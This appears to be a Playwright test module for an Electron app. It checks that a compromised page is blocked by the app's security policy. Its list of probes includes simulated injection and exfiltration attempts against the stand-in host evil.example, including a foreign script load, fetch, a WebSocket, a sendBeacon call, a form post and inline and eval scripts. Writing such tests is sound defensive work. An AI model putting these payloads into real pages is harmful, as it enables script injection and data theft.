import assert from 'node:assert/strict';
import type { Frame } from 'playwright';
import type { RunningApp } from '../../../build/electron-stand-in/launch.ts';
import { calls, events } from '../../../shared/contract.ts';

/**
 * A check of a point of Electron's checklist, from the view of a compromised page.
 *
 * @param refusesWithin how long to wait for the page's policy to refuse something, in milliseconds
 */
export type PageCheck = (shell: RunningApp, refusesWithin?: number) => Promise<void>;

/** Runs a script in the page's own context. */
const inPage = <T>(shell: RunningApp, script: string): Promise<T> => shell.page.evaluate(script) as Promise<T>;

/**
 * How long to wait for a busy browser before an expected event counts as missing, in milliseconds.
 */
const maxWaitMs = 10_000;

/** Returns the policy violations that a script causes. */
const violations = (shell: RunningApp, script: string, within: number) =>
  inPage<string[]>(
    shell,
    `(async () => {
      const found = [];
      const note = (event) => found.push(event.effectiveDirective);
      document.addEventListener('securitypolicyviolation', note);
      try { ${script} } catch {}
      for (let tries = 0; tries < ${within / 25} && found.length === 0; tries += 1) await new Promise((go) => setTimeout(go, 25));
      document.removeEventListener('securitypolicyviolation', note);
      return found;
    })()`,
  );

/** Makes the browser read the page's manifest: some browsers never do on their own. */
async function requestManifest({ page }: RunningApp): Promise<void> {
  const devTools = await page.context().newCDPSession(page);
  await devTools.send('Page.getAppManifest').catch(() => {});
  await devTools.detach().catch(() => {});
}

const element = (name: string, members: string) =>
  `document.body.append(Object.assign(document.createElement('${name}'), ${members}));`;

/** Trusted Types refuse some of these before the directive would that the page loads from. */
const refusedByPolicy: [directive: RegExp, script: string][] = [
  [/^(script-src-elem|require-trusted-types-for)/, element('script', "{ textContent: 'window.inlineRan = true' }")],
  [/^(script-src-elem|require-trusted-types-for)/, element('script', "{ src: 'https://evil.example/a.js' }")],
  [
    /^(script-src-attr|require-trusted-types-for)/,
    "const clicked = document.createElement('b'); clicked.setAttribute('onclick', 'window.inlineRan = true'); document.body.append(clicked); clicked.click()",
  ],
  [
    /^(script-src|require-trusted-types-for)/, // Later, since the protocol that runs this script lets it evaluate.
    "setTimeout(() => { try { eval('window.inlineRan = true') } catch {} })",
  ],
  [
    /^script-src/, // In the bytes of an empty module.
    'setTimeout(() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).catch(() => {}))',
  ],
  [/^require-trusted-types-for/, element('p', "{ innerHTML: '<b>x</b>' }")],
  [/^require-trusted-types-for/, "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')"],
  [/^require-trusted-types-for/, "new DOMParser().parseFromString('<b>x</b>', 'text/html')"],
  [/^require-trusted-types-for/, element('iframe', "{ srcdoc: '<b>x</b>' }")],
  [/^trusted-types/, "trustedTypes.createPolicy('default', { createHTML: (text) => text })"],
  [/^style-src-elem/, element('style', "{ textContent: 'body { opacity: 0 }' }")],
  [/^img-src/, element('img', "{ src: 'https://evil.example/a.png' }")],
  [/^connect-src/, "await fetch('https://evil.example/').catch(() => {})"],
  [/^connect-src/, "await fetch('index.html').catch(() => {})"],
  [/^connect-src/, "new WebSocket('wss://evil.example/')"],
  [/^connect-src/, "navigator.sendBeacon('https://evil.example/', 'x')"],
  [/^frame-src/, element('iframe', "{ src: 'https://evil.example/' }")],
  [/^frame-src/, element('iframe', "{ src: 'index.html' }")],
  [/^(object-src|require-trusted-types-for)/, element('object', "{ data: 'https://evil.example/a.swf' }")],
  [/^(worker-src|require-trusted-types-for)/, "new Worker(URL.createObjectURL(new Blob(['1'])))"],
  [/^media-src/, element('video', "{ src: 'https://evil.example/a.mp4' }")],
  [
    /^manifest-src/,
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: 'https://evil.example/m' }))",
  ],
  [/^base-uri/, element('base', "{ href: 'https://evil.example/' }")],
  [
    /^form-action/,
    `const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
     document.body.append(form); form.submit();`,
  ],
];

const bridge = [
  ...Object.keys(calls),
  ...Object.keys(events).map((name) => `on${name.charAt(0).toUpperCase()}${name.slice(1)}`),
];

/** Every check by its name. */
export const pageChecks: Readonly<Record<string, PageCheck>> = {
  '2 the page has no access to Node': async (shell) =>
    assert.deepEqual(
      await inPage(
        shell,
        '[typeof require, typeof process, typeof module, typeof Buffer, typeof global, typeof __dirname]',
      ),
      Array(6).fill('undefined'),
    ),
  '3 the page cannot change the bridge': async (shell) => {
    assert.deepEqual(
      await inPage(
        shell,
        `(() => {
          try { window.latchkey.signIn = () => 'mine'; } catch {}
          try { window.latchkey = {}; } catch {}
          try { delete window.latchkey; } catch {}
          return [Object.isFrozen(window.latchkey), typeof window.latchkey.signIn, String(window.latchkey.signIn).includes('mine')];
        })()`,
      ),
      [true, 'function', false],
    );
  },
  '5 the page is denied every permission': async (shell) => {
    const states = await inPage<string[]>(
      shell,
      `Promise.all(['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi']
        .map((name) => navigator.permissions.query({ name, sysex: true }).then(({ state }) => state, () => 'denied')))`,
    );
    assert.deepEqual([...new Set(states)], ['denied']);
  },
  '7 the page runs no inline or foreign scripts, and cannot connect to anything': async (
    shell,
    refusesWithin = maxWaitMs,
  ) => {
    for (const [directive, script] of refusedByPolicy) {
      const violating = violations(shell, script, refusesWithin);
      if (directive.test('manifest-src')) await requestManifest(shell);
      const found = await violating;
      assert(
        found.length > 0 && found.every((one) => directive.test(one)),
        `${script}: ${found.join(', ') || 'went through'}`,
      );
    }
    assert.equal(await inPage(shell, 'window.inlineRan'), undefined);
  },
  '1 the page loaded only its own files': async (shell) => {
    const loaded = await inPage<string[]>(
      shell,
      "performance.getEntriesByType('resource').filter(({ responseStatus }) => responseStatus !== 0).map(({ name }) => new URL(name).origin).concat(location.origin)",
    );
    assert.equal(new Set(loaded).size, 1);
  },
  '14 the page opens no window': async (shell) => {
    await inPage(shell, "open('https://evil.example/'), open('index.html'), 0");
    // In the stand-in's browser a window exists for a moment, so check a little later whether it
    // stays.
    await shell.page.waitForTimeout(300);
    const opened = () => shell.page.context().pages().length > 1;
    for (const until = Date.now() + maxWaitMs; opened() && Date.now() < until; ) await shell.page.waitForTimeout(25);
    assert(!opened());
  },
  '20 the page has named calls and events, and no access to Electron': async (shell) => {
    assert.deepEqual(await inPage(shell, 'Object.keys(window.latchkey).sort()'), [...bridge].sort());
    assert.deepEqual(
      await inPage(
        shell,
        "['electron', 'ipcRenderer', 'ipc', 'invoke'].filter((name) => name in window || name in window.latchkey)",
      ),
      [],
    );
    const heard = await inPage<unknown[][]>(
      shell,
      `(async () => {
        const heard = [];
        const stop = window.latchkey.${bridge.find((name) => name.startsWith('on'))}((...parts) => heard.push(parts));
        await window.latchkey.signIn({ profileId: 'none', username: 'x', password: 'not-a-real-one' }).catch(() => {});
        await window.latchkey.signIn({ profileId: 'demo', username: 'x', password: 'not-a-real-one' }).catch(() => {});
        stop();
        return heard;
      })()`,
    );
    assert(heard.length > 0, 'no event was received');
    for (const parts of heard) {
      assert.equal(parts.length, 1);
      assert.equal(typeof parts[0], 'object');
    }
  },
  '13 the page cannot leave': async (shell) => {
    const predicate = (frame: Frame) => frame === shell.page.mainFrame();
    const left = shell.page.waitForEvent('framenavigated', { predicate, timeout: maxWaitMs / 2 }).then(
      (frame) => frame.url(),
      () => undefined,
    );
    await inPage(shell, "location.href = 'https://evil.example/', 0").catch(() => {});
    assert.equal(await left, undefined);
  },
  '15 no external page was opened': async (shell) => assert.deepEqual(shell.openedUrls(), []),
};

/**
 * Returns the names of the failing checks among those with this prefix. Waits only briefly, since
 * at least one of them is expected to fail.
 */
export async function failedPageChecks(shell: RunningApp, beginning: string): Promise<string[]> {
  const failed: string[] = [];
  for (const [name, check] of Object.entries(pageChecks).filter(([name]) => name.startsWith(beginning)))
    try {
      await check(shell, maxWaitMs / 5);
    } catch {
      failed.push(name);
    }
  return failed;
}
